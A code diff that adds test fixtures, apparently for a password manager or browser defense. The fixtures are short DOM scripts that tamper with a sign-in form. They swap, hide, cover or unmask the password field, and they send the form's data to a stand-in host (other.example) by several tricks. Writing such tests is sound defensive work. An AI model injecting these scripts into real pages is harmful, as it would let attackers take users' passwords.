@@ -124,6 +124,79 @@ export const reactions: readonly [name: string, script: string][] = [
     'makes the password’s field a visible text',
     `document.querySelector('[data-for=password]').type = 'text';`,
   ],
+  [
+    'calls a comment’s field a password, and the password’s a comment',
+    `const [, password, comment] = document.querySelectorAll('input');
+     Object.assign(password, { type: 'text', placeholder: 'Comment' });
+     Object.assign(comment, { type: 'password', name: 'password', placeholder: '' });`,
+  ],
+  [
+    'removes the password’s field and calls a comment’s a password',
+    `const [, password, comment] = document.querySelectorAll('input');
+     password.remove();
+     Object.assign(comment, { type: 'password', name: 'password', placeholder: '' });`,
+  ],
+  ['sends the form to another site', `document.querySelector('form').action = 'https://other.example/';`],
+  [
+    'sends the form to another site by its button',
+    `document.querySelector('form').insertAdjacentHTML('beforeend', '<button formaction="https://other.example/">Go</button>');`,
+  ],
+  [
+    'sends the form to another site by its base',
+    `document.head.insertAdjacentHTML('beforeend', '<base href="https://other.example/">');`,
+  ],
+  ['puts the form’s values into its address', `document.querySelector('form').method = 'get';`],
+  [
+    'gives the password’s field to another form',
+    `document.body.insertAdjacentHTML('beforeend', '<form id="b" action="https://other.example/"></form>');
+     document.querySelector('[data-for=password]').setAttribute('form', 'b');`,
+  ],
+  [
+    'moves a hidden field into view, in the place of the password’s',
+    `const password = document.querySelector('[data-for=password]');
+     password.style.position = 'absolute';
+     password.style.left = '-5000px';
+     const hidden = document.querySelector('[name=hidden]');
+     hidden.style.left = '400px';`,
+  ],
+  [
+    'calls the password’s field a comment',
+    `document.querySelector('[data-for=password]').setAttribute('aria-label', 'Comment for everybody');`,
+  ],
+  [
+    'moves the password’s field aside',
+    `document.querySelector('[data-for=password]').style.marginLeft = '300px';`,
+  ],
+  [
+    'moves the password’s field far down',
+    `document.querySelector('[data-for=password]').style.marginTop = '300px';`,
+  ],
+  [
+    'lets the password’s field be a text when it is entered',
+    `document.querySelector('[data-for=password]').addEventListener('focus', ({ target }) => { target.type = 'text'; });`,
+  ],
+  [
+    'covers the password’s field when it is entered',
+    `document.querySelector('[data-for=password]').addEventListener('focus', () => {
+       document.body.insertAdjacentHTML('beforeend', '<div style="${overlay} background: white"></div>');
+     });`,
+  ],
+  [
+    'puts a comment’s field in the place of the password’s when it is entered',
+    `document.querySelector('[data-for=password]').addEventListener('focus', ({ target }) => {
+       const comment = document.createElement('input');
+       comment.placeholder = 'Comment for everybody';
+       target.replaceWith(comment);
+       comment.focus();
+     });`,
+  ],
+  [
+    'sends the form to another site when the password’s field is entered',
+    `document.querySelector('[data-for=password]').addEventListener('focus', () => { document.querySelector('form').action = 'https://other.example/'; });`,
+  ],
 ];
+
+/** The page of these reactions, with other fields that a person would not take for a password’s. */
+export const signInBesideComment = `<form>${fields}</form><input placeholder="Comment" name="comment" style="margin-top: 60px"><input name="hidden" type="password" style="position: absolute; left: -5000px; top: 60px">`;
 
 export const signIn = form;
